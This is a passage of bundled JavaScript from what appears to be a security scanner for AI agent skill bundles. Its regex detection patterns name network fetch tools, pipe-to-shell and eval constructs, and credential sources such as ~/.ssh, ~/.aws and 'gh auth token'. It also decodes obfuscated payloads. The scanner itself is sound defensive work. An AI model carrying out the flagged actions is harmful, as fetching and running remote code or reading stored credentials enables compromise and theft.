    ], /(?<![\w.])(?:eval|exec)\s{0,2}\((?!\s{0,4}\))|\bnew function\s{0,2}\(|\b(?:pickle|marshal|dill)\.loads?\s{0,2}\(|\b__import__\s{0,2}\(|\bimportlib\.import_module\s{0,2}\(|\bvm\.runin\w{4,14}\s{0,2}\(|\binvoke-expression\b|(?:^|[\s|;])iex\s/),
];

;// CONCATENATED MODULE: ./lib/skills/capabilities/text-signals.js

/** Where a command begins in a shell line. */
const START = String.raw `(?:^|[\n;|&(\x60]|\$ |&& |sudo |then |do )[ \t]{0,12}`;
const command = (names) => new RegExp(`${START}(?:${names})(?=[ \\t\\n]|$)`);
/** Command lines, lists of tools, and sentences addressed to the agent. A link shows nothing. */
const TEXT_SIGNALS = [
    shows('network', 'shell', ['curl', 'wget', 'ssh ', 'scp ', 'rsync', 'git clone', 'git push', 'git pull', 'git fetch'], command(String.raw `curl|wget|ssh|scp|rsync|git (?:clone|push|pull|fetch)`)),
    shows('network', 'shell', [
        'npm i',
        'npm ci',
        'npx ',
        'pip install',
        'pip3 install',
        'pipx',
        'uv ',
        'uvx',
        'brew ',
        'apt',
        'docker pull',
        'docker run',
        'yarn ',
        'pnpm ',
        'bun',
        'cargo install',
        'go install',
        'go get',
        'gem install',
    ], command(String.raw `npm (?:i|install|ci|update)|npx|pnpm (?:i|install|add|dlx)|yarn (?:add|install|dlx)|bunx?(?: (?:add|install))?|(?:python3? -m )?pip3? install|pipx|uv (?:pip install|add|sync|tool install)|uvx|brew (?:install|tap|upgrade)|apt(?:-get)? (?:install|update)|docker (?:pull|run|push)|cargo install|go (?:install|get)|gem install`)),
    shows('network', 'shell', [
        'gh ',
        'aws ',
        'az ',
        'gcloud ',
        'kubectl ',
        'vercel',
        'netlify',
        'heroku',
        'azd ',
        'wrangler',
        'firebase',
        'supabase',
        'terraform ',
        'gsutil',
        'databricks ',
        'snow ',
    ], command(String.raw `gh (?:pr|issue|repo|api|run|release|workflow|auth|search|gist) |aws [a-z0-9-]+ |az [a-z-]+ |azd |gcloud [a-z-]+ |gsutil |kubectl (?:get|apply|logs|describe|delete|exec|port-forward) |vercel |netlify |heroku |wrangler |firebase |supabase |terraform (?:init|apply|plan) |databricks |snow `.replace(/ (?=\||$)/gu, ''))),
    shows('network', 'front-matter', ['webfetch', 'websearch', 'web_fetch', 'bash(curl', 'bash(gh'], /\b(?:webfetch|websearch|web_fetch|web_search)\b|\bbash\((?:curl|wget|gh|npx)\b/),
    shows('network', 'prose', ['webfetch', 'websearch', 'web search', 'web_search'], /\b(?:use|with|via|through|call|run|using)\s(?:the\s)?[`*]{0,3}(?:webfetch|websearch|web_search|web search)\b/),
    shows('exec', 'shell', [
        '```bash',
        '```sh',
        '```shell',
        '```zsh',
        '```console',
        '```powershell',
        '```terminal',
        '```pwsh',
        '```cmd',
        '```bat',
        '~~~bash',
        '~~~sh',
    ], /(?:```|~~~)(?:bash|sh|shell|zsh|console|powershell|pwsh|terminal|cmd|bat)\b[^\n]{0,60}\n[ \t]{0,12}(?:[$>%] )?(?!(?:GET|POST|PUT|PATCH|DELETE) )[\w./~"'$@:\\-]/),
    shows('exec', 'shell', [
        '`python',
        '`node',
        '`bash',
        '`sh ',
        '`npm',
        '`npx',
        '`uv',
        '`git',
        '`curl',
        '`docker',
        '`pip',
        '`make',
        '`cargo',
        '`dotnet',
        '`gh',
        '`kubectl',
        '`terraform',
        '`pnpm',
        '`yarn',
        '`go ',
        '`./',
        '`az ',
        '`aws',
        '`gcloud',
        '`pytest',
        ' --',
        '`bun',
    ], /`(?:\.\/[\w./-]{2,80}(?:\.(?:sh|py|js|mjs|ps1)|[ \t]--?\w)[^`\n]{0,200}|[a-z][a-z0-9_-]{1,30}(?:[ \t][\w:+./-]{1,40}){1,4}[ \t]--?[a-z][\w-]{0,40}[^`\n]{0,200}|(?:python3?|node|bash|sh|npm|npx|uvx?|git|curl|docker|pip3?|make|cargo|dotnet|gh|kubectl|terraform|pnpm|yarn|go|azd?|aws|gcloud|pytest|bunx?)[ \t][^`\n]{2,200})`/),
    shows('exec', 'shell', ['```\n'], /```[ \t]{0,4}\n[ \t]{0,12}(?:[$>] )?(?:npm|npx|pnpm|yarn|bun|pip3?|python3?|uvx?|node|git|gh|curl|docker|kubectl|azd?|aws|gcloud|make|cargo|go|dotnet|terraform|bash|sh|brew)[ \t][^\n]/),
    shows('exec', 'front-matter', ['bash', 'shell', 'powershell'], /(?:allowed[-_]tools|tools)[^\n]{0,300}\b(?:bash|shell|powershell)\b|^\s{0,8}-\s{1,4}["']?(?:bash|shell|powershell)\b/),
    shows('writes', 'shell', [
        '>',
        'tee ',
        'mkdir',
        'cp ',
        'mv ',
        'touch ',
        'sed -i',
        'rm -',
        'git commit',
        'git checkout',
        'unzip',
        'tar -x',
        'tar x',
        'ln -s',
        'rm ',
    ], /[\w\"')}\]][ \t]{1,4}\d?>>?[ \t]{0,4}(?!\/dev\/|&|=|>|\d)["']?[\w.~$/{][\w./~${}-]{2,200}|(?:^|[\n;|&(\x60]|\$ |&& |sudo |then |do )[ \t]{0,12}(?:tee|mkdir|cp|mv|touch|sed -i|rm|unzip|tar -?x|ln -s|git (?:commit|checkout|init|merge|rebase))[ \t]/),
    shows('writes', 'front-matter', ['write', 'edit', 'multiedit', 'notebookedit'], /(?:allowed[-_]tools|tools)[^\n]{0,300}\b(?:write|edit|multiedit|notebookedit)\b|^\s{0,8}-\s{1,4}["']?(?:write|edit|multiedit|notebookedit)["']?\s{0,4}$/),
    shows('writes', 'prose', ['write', 'save', 'create', 'update', 'append', 'generate', 'edit', 'modify'], /(?:^|[.:;!]\s|\n)\s{0,8}(?:[-*+]\s|\d{1,3}[.)]\s)?(?:\*\*)?(?:then |and |next,? |finally,? )?(?:write|save|create|update|append|generate|edit|modify)\b[^.\n`]{0,60}`[\w./~{}<>*$-]{1,100}\.(?:md|json|ya?ml|py|ts|tsx|js|jsx|sh|html|css|toml|txt|csv|xml|tf|bicep|sql|go|rs|java|cs|rb|ipynb|docx|pptx|xlsx|pdf|png|svg)`/),
    shows('reads', 'shell', ['cat ', 'grep ', 'find ', 'head ', 'tail ', 'rg ', 'jq '], command(String.raw `cat|grep|find|head|tail|rg|jq`)),
    shows('reads', 'front-matter', ['read', 'grep', 'glob'], /(?:allowed[-_]tools|tools)[^\n]{0,300}\b(?:read|grep|glob)\b|^\s{0,8}-\s{1,4}["']?(?:read|grep|glob)["']?\s{0,4}$/),
    shows('secrets', 'shell', ['token', 'secret', 'api_key', 'apikey', 'password', 'access_key', '_key'], /\$\{?[a-z_]{0,40}(?:token|secret|api_?key|password|access_?key)[a-z_]{0,20}\b|\bexport[ \t]+[a-z_]{0,40}(?:token|secret|api_?key|password|access_?key)[a-z_]{0,20}=/),
    shows('secrets', 'shell', ['.ssh/', '.aws/', 'auth token', 'print-access-token', 'find-generic-password', 'op read', 'get-secret'], /~\/\.(?:ssh|aws|kube|docker)\/\w|\bgh auth token\b|\bprint-access-token\b|\bfind-generic-password\b|\bop read\b|\bget-secret-value\b/),
    shows('dynamic_code', 'shell', ['eval ', 'python -c', 'python3 -c', 'node -e', 'bash -c', '| sh', '| bash', '|sh', '|bash', 'perl -e', 'ruby -e', '| iex'], new RegExp(`${START}(?:eval[ \\t]+["$]|(?:python3? -c|node -e|perl -e|ruby -e)[ \\t])|\\|[ \\t]{0,4}(?:sudo )?(?:ba|z)?sh(?=[ \\t\\n]|$)|\\|[ \\t]{0,4}iex\\b`)),
];

;// CONCATENATED MODULE: ./lib/skills/capabilities/signals.js


/** What shows a capability, by the places that can show it. */
const CAPABILITY_SIGNALS = [...CODE_SIGNALS, ...TEXT_SIGNALS];
/** The words that decide which of these patterns look at a text. */
const CAPABILITY_ANCHORS = CAPABILITY_SIGNALS.flatMap((one) => one.signal.anchors);

;// CONCATENATED MODULE: ./lib/skills/capabilities/capabilities-of.js




/** Places shown for one capability. */
const MAX_EVIDENCE = 5;
/**
 * What the scripts of a bundle and the commands in its documents can do, with the places that show it. A fact, not a fault:
 * links, licences, words and the code samples of other programs show nothing. Scripts come first, then the manifest.
 */
function capabilitiesOf(view) {
    const units = ranked(view.units.filter((unit) => unit.layer === 'plain' && unit.file.role !== 'licence'));
    const facts = [];
    for (const capability of analysis_facts/* CAPABILITIES */.$) {
        const evidence = evidenceOf(capability, units);
        if (evidence.length > 0)
            facts.push({ capability, evidence });
    }
    return facts;
}
function evidenceOf(capability, units) {
    const found = [];
    for (const unit of units) {
        const first = capability === 'exec' && unit.file.language === 'shell' ? shellScriptEvidence(unit) : undefined;
        if (first)
            found.push(first);
        for (const one of CAPABILITY_SIGNALS) {
            if (one.capability !== capability || !fits(one, unit))
                continue;
            const match = unit.find(one.signal).find((candidate) => capabilities_of_shows(one, unit, candidate));
            if (match)
                found.push(evidenceAt(unit, match.start + (/^\s/u.test(match.text) ? match.text.length - match.text.trimStart().length : 0), match.end));
            if (found.length >= MAX_EVIDENCE)
                return found;
        }
    }
    return found;
}
/** Scripts, then the manifest, then other documents; tests and fixtures last. */
function ranked(units) {
    const rank = (unit) => unit.file.fixture ? 4 : unit.file.role === 'script' ? 0 : unit.file.role === 'manifest' ? 1 : 2;
    return units
        .map((unit, index) => ({ unit, index }))
        .sort((a, b) => rank(a.unit) - rank(b.unit) || a.index - b.index)
        .map((one) => one.unit);
}
const EXPRESSION_LANGUAGES = new Set([
    'python',
    'javascript',
    'typescript',
    'ruby',
    'perl',
    'php',
    'powershell',
    'batch',
]);
function fits(one, unit) {
    const { language } = unit.file;
    if (one.where === 'code')
        return EXPRESSION_LANGUAGES.has(language) || language === 'markdown' || unit.file.path.endsWith('.go');
    if (one.where === 'shell')
        return language === 'shell' || language === 'markdown' || language === 'batch' || /(?:^|\/)[Mm]akefile$/u.test(unit.file.path);
    return language === 'markdown';
}
/** Whether a match stands where it is an act: code that is no comment, a shell line, a list of tools. */
function capabilities_of_shows(one, unit, match) {
    if (unit.file.language !== 'markdown')
        return !isComment(unit, match);
    const at = match.start + Math.max(0, match.text.search(/\S/u));
    const zone = zoneAt(unit.file.zones, Math.min(at, match.end - 1));
    if (one.where === 'front-matter')
        return zone?.kind === 'front-matter' && unit.file.role === 'manifest';
    if (one.where === 'prose')
        return (zone?.kind === 'prose' || zone?.kind === 'list') && unit.file.role === 'manifest' && !isNegated(unit, at);
    if (one.where === 'code')
        return zone?.kind === 'fence' && /^(?:python3?|py|powershell|pwsh|ps1)$/u.test(zone.language) && !isComment(unit, match);
    if (one.capability === 'exec' && /^(?:```|~~~)/u.test(match.text))
        return true;
    if (zone?.kind === 'fence')
        return isShellFence(zone.language, unit.text.slice(zone.start, Math.min(zone.end, zone.start + 400))) && !isComment(unit, match);
    return isInlineCommand(unit, at, match) && !isNegated(unit, at);
}
const SHELL_FENCE = /^(?:bash|sh|shell|zsh|console|terminal|shell-session|powershell|pwsh|cmd|bat|fish|!)$/u;
const COMMAND_LINE = /^\s*(?:[$>%] )?(?:sudo |npx |npm |pnpm |yarn |bun |pip3? |python3? |uvx? |node |git |gh |curl |wget |docker |kubectl |az |azd |aws |gcloud |make |cd |mkdir |export |brew |cargo |go |dotnet |terraform |chmod |bash |sh |\.\/)/mu;
/** A block without a label is shell when its lines begin like commands. */
function isShellFence(language, text) {
    return SHELL_FENCE.test(language) || (language === '' && COMMAND_LINE.test(text) && !/[{}]\s*$|^\s*[├└│]/mu.test(text));
}
/** A command in back ticks within a sentence. */
function isInlineCommand(unit, at, match) {
    const lineStart = unit.text.lastIndexOf('\n', at - 1) + 1;
    const line = unit.text.slice(lineStart, lineStart + 2000).split('\n', 1)[0] ?? '';
    const offset = at - lineStart;
    if (match.text.trimStart().startsWith('`'))
        return true;
    return isInsideBackticks(line, offset) && line.charAt(offset - 1) === '`';
}
/** "Never run", "do not use": the clause before the place. */
function isNegated(unit, at) {
    const before = unit.text.slice(Math.max(0, at - 80), at);
    return /\b(?:never|do not|don['’]t|avoid|must not|instead of|rather than|not)\b[^.;\n]{0,60}$/iu.test(before);
}
function isComment(unit, match) {
    const at = match.start + Math.max(0, match.text.search(/\S/u));
    const lineStart = unit.text.lastIndexOf('\n', at - 1) + 1;
    const before = unit.text.slice(lineStart, at);
    if (/^\s*(?:#(?!!)|\/\/|\*|\/\*|rem\b|::|--\s|"""|''')/iu.test(unit.text.slice(lineStart, lineStart + 40)))
        return true;
    return /(?:^|\s)(?:#|\/\/)\s[^"'`]{0,200}$/u.test(before);
}
/** A shell script is run, whatever it does: its first line that is a command. */
function shellScriptEvidence(unit) {
    const line = /^(?![ \t]*(?:#|$|set\s[-+]|\s*$))[^\n]{2,300}/mu.exec(unit.text.slice(0, 20_000));
    return line ? evidenceAt(unit, line.index, line.index + line[0].length) : undefined;
}
function evidenceAt(unit, start, end) {
    return { path: unit.file.path, region: unit.regionOf(start, end), snippet: (0,core_text/* snippetOf */.Vv)(unit.text.slice(start, end), 160) };
}

;// CONCATENATED MODULE: ./lib/skills/analysis/anchors.js
/**
 * Finds many literals in one pass (Aho and Corasick, 1975), folding ASCII letters to lower case. One table look-up per
 * UTF-16 unit, whatever the number of literals: this is the pass that decides which patterns look at which part of a text.
 */
class AnchorSet {
    #classOfUnit;
    #classes;
    #next;
    /** Per state the first of its words in `#words`, or -1. */
    #firstWord;
    /** Words that end in a state, as chains: `[word, next link]` pairs. */
    #chain;
    #ids;
    #lists = new WeakMap();
    /** The answer for texts without any of the words, shared: most decoded strings are such. */
    #nowhere;
    constructor(words) {
        const unique = [...new Set(words)];
        this.#ids = new Map(unique.map((word, id) => [word, id]));
        this.#classOfUnit = new Uint8Array(0x10000);
        this.#classes = assignClasses(unique, this.#classOfUnit);
        const automaton = closeTrie(buildTrie(unique, this.#classOfUnit), this.#classes);
        this.#next = automaton.next;
        this.#firstWord = automaton.firstWord;
        this.#chain = automaton.chain;
    }
    /** The id under which {@link scan} reports a word. Throws for a word that is not in the set: that is a bug of ours. */
    idOf(word) {
        const id = this.#ids.get(word);
        if (id === undefined)
            throw new Error(`not an anchor: ${word}`);
        return id;
    }
    /** The ids of a list of words, found once for each list. */
    idsOf(words) {
        const known = this.#lists.get(words);
        if (known !== undefined)
            return known;
        const ids = words.map((word) => this.idOf(word));
        this.#lists.set(words, ids);
        return ids;
    }
    /** Where the words stand. */
    scan(text) {
        this.#nowhere ??= new AnchorHits(NONE, NONE, 0, this.#ids.size);
        const next = this.#next;
        const classOfUnit = this.#classOfUnit;
        const classes = this.#classes;
        const firstWord = this.#firstWord;
        const places = new Places();
        let state = 0;
        for (let offset = 0; offset < text.length; offset += 1) {
            state = next[state * classes + (classOfUnit[text.charCodeAt(offset)] ?? 0)] ?? 0;
            let link = firstWord[state] ?? -1;
            for (; link >= 0; link = this.#chain[link + 1] ?? -1)
                places.add(this.#chain[link] ?? 0, offset + 1);
        }
        return places.count === 0 ? this.#nowhere : new AnchorHits(places.words, places.ends, places.count, this.#ids.size);
    }
}
/** Words and the offsets after them, in the order of the text. */
class Places {
    words = new Int32Array(64);
    ends = new Int32Array(64);
    count = 0;
    add(word, end) {
        if (this.count === this.words.length) {
            this.words = grown(this.words);
            this.ends = grown(this.ends);
        }
        this.words[this.count] = word;
        this.ends[this.count] = end;
        this.count += 1;
    }
}
function grown(list) {
    const larger = new Int32Array(list.length * 4);
    larger.set(list);
    return larger;
}
/** Where the words of a set stand in one text: packed lists, since most texts hold few of thousands of words. */
class AnchorHits {
    /** For each word the index of its first place in `#ends`; one more for the end of the last. */
    #first;
    #ends;
    constructor(words, ends, count, size) {
        const first = new Int32Array(size + 1);
        for (let index = 0; index < count; index += 1)
            first[(words[index] ?? 0) + 1] = (first[(words[index] ?? 0) + 1] ?? 0) + 1;
        for (let word = 0; word < size; word += 1)
            first[word + 1] = (first[word + 1] ?? 0) + (first[word] ?? 0);
        const sorted = new Int32Array(count);
        const at = first.slice(0, size);
        for (let index = 0; index < count; index += 1) {
            const word = words[index] ?? 0;
            const place = at[word] ?? 0;
            sorted[place] = ends[index] ?? 0;
            at[word] = place + 1;
        }
        this.#first = first;
        this.#ends = sorted;
    }
    /** Whether none of the set's words stands in the text. */
    get isEmpty() {
        return this.#ends.length === 0;
    }
    /** Whether any of the words stands in the text. */
    hasAny(ids) {
        if (this.isEmpty)
            return false;
        const first = this.#first;
        for (const id of ids)
            if ((first[id + 1] ?? 0) > (first[id] ?? 0))
                return true;
        return false;
    }
    /** The offsets after all occurrences of the words, ascending. */
    endsOfAny(ids) {
        const first = this.#first;
        const present = ids.filter((id) => (first[id + 1] ?? 0) > (first[id] ?? 0));
        const lists = present.map((id) => this.#ends.subarray(first[id], first[id + 1]));
        if (lists.length <= 1)
            return lists[0] ?? NONE;
        const all = new Int32Array(lists.reduce((sum, list) => sum + list.length, 0));
        let at = 0;
        for (const list of lists) {
            all.set(list, at);
            at += list.length;
        }
        return all.sort();
    }
}
const NONE = new Int32Array(0);
/** Class 0 is every unit that no word holds. Words are in lower case; both cases of an ASCII letter share a class. */
function assignClasses(words, classOfUnit) {
    let classes = 1;
    for (const word of words) {
        for (let index = 0; index < word.length; index += 1) {
            const unit = word.charCodeAt(index);
            if (classOfUnit[unit] !== 0)
                continue;
            if (classes > 255)
                throw new Error('too many different characters in the anchors');
            classOfUnit[unit] = classes;
            if (unit >= 97 && unit <= 122)
                classOfUnit[unit - 32] = classes;
            classes += 1;
        }
    }
    return classes;
}
function buildTrie(words, classOfUnit) {
    const root = new Map();
    const children = [root];
    const ends = [-1];
    words.forEach((word, id) => {
        let state = 0;
        let row = root;
        for (let index = 0; index < word.length; index += 1) {
            const unitClass = classOfUnit[word.charCodeAt(index)] ?? 0;
            state = row.get(unitClass) ?? children.length;
            row.set(unitClass, state);
            row = children[state] ?? new Map();
            if (state === children.length) {
                children.push(row);
                ends.push(-1);
            }
        }
        ends[state] = id;
    });
    return { children, ends };
}
/** Lays the automaton out as a table: a state's row is that of its fallback, which is less deep and so done, but for its own children. */
function closeTrie({ children, ends }, classes) {
    const next = new Int32Array(children.length * classes);
    const failure = new Int32Array(children.length);
    const firstWord = new Int32Array(children.length).fill(-1);
    const chain = [];
    const queue = [0];
    for (let head = 0; head < queue.length; head += 1) {
        const state = queue[head] ?? 0;
        const fallback = (failure[state] ?? 0) * classes;
        const row = state * classes;
        firstWord[state] = state === 0 ? -1 : (firstWord[failure[state] ?? 0] ?? -1);
        const word = ends[state] ?? -1;
        if (word >= 0) {
            chain.push(word, firstWord[state] ?? -1);
            firstWord[state] = chain.length - 2;
        }
        if (state !== 0)
            next.copyWithin(row, fallback, fallback + classes);
        for (const [unitClass, child] of children[state] ?? []) {
            failure[child] = state === 0 ? 0 : (next[fallback + unitClass] ?? 0);
            next[row + unitClass] = child;
            queue.push(child);
        }
    }
    return { next, firstWord, chain: Int32Array.from(chain) };
}

// EXTERNAL MODULE: ./lib/rules/skill/decode-and-execute.js
var decode_and_execute = __webpack_require__(1573);
// EXTERNAL MODULE: ./lib/rules/skill/disguised-command.js
var disguised_command = __webpack_require__(7136);
;// CONCATENATED MODULE: ./lib/skills/code/trace.js
/** Most deeds that are kept of one program; more make it `truncated`. */
const MAX_BEHAVIOURS = 4000;
const MAX_TARGET = 400;
/** Most deeds that are kept as the origins of one value: the sensitive ones come early. */
const MAX_ORIGINS = 64;
const NO_ORIGINS = [];
/** Collects the deeds of one program. A deed that is met again at the same place (a second pass) gains origins instead of a double. */
class Trace {
    #behaviours = [];
    #indexByPlace = new Map();
    /** The length of the text: no deed stands beyond it. */
    #length;
    truncated = false;
    constructor(length) {
        this.#length = length;
    }
    get behaviours() {
        return this.#behaviours;
    }
    /** Notes a deed; gives its index, or -1 when the bound is reached. */
    note(noted) {
        const deed = { ...noted, start: Math.min(noted.start, this.#length), end: Math.min(noted.end, this.#length) };
        const target = deed.target?.slice(0, MAX_TARGET);
        const key = `${deed.kind} ${String(deed.start)} ${String(deed.end)} ${deed.name} ${deed.subject ?? ''} ${deed.persistence ?? ''} ${target ?? ''}`;
        const known = this.#indexByPlace.get(key);
        if (known !== undefined) {
            this.feed(known, deed.flowsFrom ?? NO_ORIGINS);
            return known;
        }
        if (this.#behaviours.length >= MAX_BEHAVIOURS) {
            this.truncated = true;
            return -1;
        }
        const index = this.#behaviours.length;
        const { target: _whole, ...rest } = deed;
        this.#behaviours.push({
            ...rest,
            ...(target === undefined ? {} : { target }),
            flags: deed.flags ?? [],
            flowsFrom: deed.flowsFrom ?? NO_ORIGINS,
        });
        this.#indexByPlace.set(key, index);
        return index;
    }
    /** Adds origins to a deed that was noted before. */
    feed(index, origins) {
        const before = this.#behaviours[index];
        if (!before)
            return;
        const flowsFrom = union(before.flowsFrom, origins.filter((origin) => origin !== index));
        if (flowsFrom !== before.flowsFrom)
            this.#behaviours[index] = { ...before, flowsFrom };
    }
}
/** The union of two ascending lists, the first itself when it holds the second. */
function union(a, b) {
    if (b.length === 0 || a === b)
        return a;
    if (a.length === 0)
        return b;
    const all = new Set(a);
    for (const origin of b)
        all.add(origin);
    if (all.size === a.length)
        return a;
    return [...all].sort((x, y) => x - y).slice(0, MAX_ORIGINS);
}
/** Origins with one deed more; -1 (a deed that was not kept) adds nothing. */
function plus(origins, index) {
    return index < 0 ? origins : union(origins, [index]);
}

;// CONCATENATED MODULE: ./lib/skills/code/value.js

/** Longest text that is kept of a value that the program computes, in UTF-16 units. */
const MAX_TEXT = 200_000;
const UNKNOWN = { text: '', known: false, origins: NO_ORIGINS };
const NOTHING = { text: '', known: true, origins: NO_ORIGINS };
function literal(text, origins = NO_ORIGINS) {
    return { text: text.length > MAX_TEXT ? text.slice(0, MAX_TEXT) : text, known: text.length <= MAX_TEXT, origins };
}
/** A value of which only the origins, and perhaps a spelling, are known. */
function derived(origins, text = '') {
    return { text, known: false, origins };
}
/** Several values after each other, as one text. */
function concat(values, separator = '') {
    let text = '';
    let known = true;
    let origins = NO_ORIGINS;
    for (const [index, value] of values.entries()) {
        if (text.length < MAX_TEXT)
            text += index === 0 ? value.text : separator + value.text;
        known &&= value.known;
        origins = union(origins, value.origins);
    }
    return { text: text.slice(0, MAX_TEXT), known: known && text.length <= MAX_TEXT, origins };
}
/** The origins of several values together. */
function originsOf(values) {
    let origins = NO_ORIGINS;
    for (const value of values)
        origins = union(origins, value.origins);
    return origins;
}

;// CONCATENATED MODULE: ./lib/skills/code/shell/call.js


/** Notes a deed at the place of the command; gives its index. */
function note(call, kind, more = {}) {
    const { flags, ...rest } = more;
    return call.reading.note({ kind, ...call.place, name: call.name, ...rest, flags: [...call.flags, ...(flags ?? [])] });
}
/** What comes out of a deed on top of what went in. */
function output(origins, deed) {
    return derived(plus(origins, deed));
}
/** The whole command line as text. */
function commandLine(call) {
    return `${call.name} ${concat(call.args, ' ').text}`.trim().slice(0, 400);
}
/** Splits arguments in the way of getopt_long(3): `-abc`, `-oVALUE`, `-o VALUE`, `--long=VALUE`, `--long VALUE`, `--`. */
function parseOptions(args, valued) {
    const operands = [];
    const options = new Map();
    const add = (name, value) => {
        const list = options.get(name) ?? [];
        if (value)
            list.push(value);
        options.set(name, list);
    };
    for (let index = 0; index < args.length; index += 1) {
        const arg = args[index];
        if (!arg)
            break;
        const { text } = arg;
        if (text === '--') {
            operands.push(...args.slice(index + 1));
            break;
        }
        if (text.startsWith('--')) {
            const equals = text.indexOf('=');
            const name = equals === -1 ? text.slice(2) : text.slice(2, equals);
            if (equals !== -1)
                add(name, cut(arg, equals + 1));
            else if (valued.long.has(name))
                add(name, args[(index += 1)]);
            else
                add(name);
        }
        else if (text.startsWith('-') && text.length > 1) {
            const taken = addShort(arg, args[index + 1], valued.short, add);
            if (taken)
                index += 1;
        }
        else
            operands.push(arg);
    }
    return { operands, options };
}
/** Notes the letters of a short option group; true when the next argument was its value. */
function addShort(arg, next, valued, add) {
    for (let at = 1; at < Math.min(arg.text.length, 40); at += 1) {
        const letter = arg.text.charAt(at);
        if (!valued.includes(letter)) {
            add(letter);
            continue;
        }
        if (at + 1 < arg.text.length)
            add(letter, cut(arg, at + 1));
        else if (next) {
            add(letter, next);
            return true;
        }
        return false;
    }
    return false;
}
/** The rest of an argument from an offset of its text on. */
function cut(arg, from) {
    const { exact, ...rest } = arg;
    return { ...rest, text: arg.text.slice(from), ...(exact === undefined ? {} : { exact: exact + from }) };
}
/** The values of the first of some options that is there. */
function valuesOf(parsed, ...names) {
    return names.flatMap((name) => parsed.options.get(name) ?? []);
}
function hasOption(parsed, ...names) {
    return names.some((name) => parsed.options.has(name));
}

// EXTERNAL MODULE: external "node:zlib"
var external_node_zlib_ = __webpack_require__(8522);
;// CONCATENATED MODULE: ./lib/skills/code/decoding.js


const bytesOf = (text) => Buffer.from(text, /[\u0100-\uffff]/u.test(text) ? 'utf8' : 'latin1');
/** Bytes as text: UTF-8 where it is valid, else one unit a byte, so that a further decoder still has every byte. */
function textOfBytes(bytes) {
    const utf8 = bytes.toString('utf8');
    return (utf8.includes('\ufffd') ? bytes.toString('latin1') : utf8).slice(0, MAX_TEXT);
}
const base64 = (text) => {
    const packed = text.replace(/\s+/gu, '');
    if (packed.length < 4 || !/^[A-Za-z0-9+/_-]+={0,3}$/u.test(packed))
        return undefined;
    return textOfBytes(Buffer.from(packed.slice(0, MAX_TEXT), 'base64'));
};
const hex = (text) => {
    const packed = text.replace(/\\x|0x|[\s:,]+/gu, '');
    if (packed.length < 4 || packed.length % 2 === 1 || !/^[0-9a-f]+$/iu.test(packed))
        return undefined;
    return textOfBytes(Buffer.from(packed.slice(0, MAX_TEXT), 'hex'));
};
const ALPHABET32 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
const base32 = (text) => {
    const packed = text.replace(/[\s=]+/gu, '').toUpperCase();
    if (packed.length < 8 || !/^[A-Z2-7]+$/u.test(packed))
        return undefined;
    const out = [];
    let bits = 0;
    let value = 0;
    for (const letter of packed.slice(0, 100_000)) {
        value = ((value << 5) | ALPHABET32.indexOf(letter)) & 0xfff;
        bits += 5;
        if (bits >= 8) {
            bits -= 8;
            out.push((value >> bits) & 255);
        }
    }
    return textOfBytes(Buffer.from(out));
};
/** Base 85 as in RFC 1924 (`base64.b85decode`). */
const base85 = (text) => {
    const alphabet = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~';
    const packed = text.trim();
    if (packed.length < 5 || packed.length > 100_000)
        return undefined;
    const out = [];
    for (let at = 0; at < packed.length; at += 5) {
        const group = packed.slice(at, at + 5);
        let value = 0;
        for (const letter of group.padEnd(5, '~')) {
            const digit = alphabet.indexOf(letter);
            if (digit === -1)
                return undefined;
            value = value * 85 + digit;
        }
        for (let byte = 0; byte < group.length - 1; byte += 1)
            out.push(Math.floor(value / 256 ** (3 - byte)) & 255);
    }
    return textOfBytes(Buffer.from(out));
};
const rot13 = (text) => text.replace(/[A-Za-z]/gu, (letter) => String.fromCharCode((((letter.charCodeAt(0) & 31) + 12) % 26) + 1 + (letter.charCodeAt(0) & 96)));
const reversed = (text) => text.split('').reverse().join('');
const percent = (text) => {
    if (!text.includes('%'))
        return text;
    try {
        return decodeURIComponent(text);
    }
    catch {
        return undefined;
    }
};
/** gzip, zlib or raw deflate. The threat is a small blob that swells: output is bounded and a larger one refused. */
const inflate = (text) => {
    const bytes = bytesOf(text.slice(0, MAX_TEXT));
    for (const open of [external_node_zlib_.gunzipSync, external_node_zlib_.inflateSync, external_node_zlib_.inflateRawSync]) {
        try {
            return textOfBytes(open(bytes, { maxOutputLength: MAX_TEXT, finishFlush: external_node_zlib_.constants.Z_SYNC_FLUSH }));
        }
        catch {
            continue;
        }
    }
    return undefined;
};
/** UTF-16, little end first, as PowerShell's `-EncodedCommand` has it. */
const utf16 = (text) => {
    const bytes = bytesOf(text);
    return bytes.length >= 4 && bytes[1] === 0 ? bytes.toString('utf16le').slice(0, MAX_TEXT) : undefined;
};
/** Base 64 of UTF-16: `powershell -enc`. */
const encodedCommand = (text) => {
    const packed = text.replace(/\s+/gu, '');
    if (!/^[A-Za-z0-9+/]{8,}={0,2}$/u.test(packed))
        return undefined;
    const bytes = Buffer.from(packed.slice(0, MAX_TEXT), 'base64');
    return bytes[1] === 0 ? bytes.toString('utf16le') : textOfBytes(bytes);
};

;// CONCATENATED MODULE: ./lib/skills/code/shell/commands/interpreters.js




const SHELL = { language: 'shell', code: /^-[a-z]{0,8}c$/u, valued: /^(?:-O|-o|--rcfile|--init-file)$/u };
const INTERPRETERS = {
    sh: SHELL,
    bash: SHELL,
    zsh: SHELL,
    dash: SHELL,
    ksh: SHELL,
    ash: SHELL,
    fish: SHELL,
    python: { language: 'python', code: /^-[a-zA-Z]{0,6}c$/u, valued: /^-[WXQ]$/u },
    node: { language: 'javascript', code: /^(?:-e|-p|-pe|--eval|--print)$/u, valued: /^(?:-r|--require|--import|--loader|-C)$/u },
    bun: { language: 'javascript', code: /^(?:-e|--eval)$/u, valued: /^(?:-r|--preload)$/u },
    deno: { language: 'javascript', code: /^eval$/u, valued: /^-c$/u },
    perl: { language: 'perl', code: /^-[a-zA-Z0-9:]{0,12}[eE]$/u, valued: /^-I$/u },
    ruby: { language: 'ruby', code: /^-[a-z]{0,6}e$/u, valued: /^-I$/u },
    php: { language: 'php', code: /^-[rBR]$/u, valued: /^-[dc]$/u },
    osascript: { language: 'applescript', code: /^-e$/u, valued: /^-[ls]$/u },
    lua: { language: undefined, code: /^-e$/u, valued: /^-l$/u },
    powershell: {
        language: 'powershell',
        code: /^[-/]c(?:o(?:m(?:m(?:a(?:n(?:d)?)?)?)?)?)?$/iu,
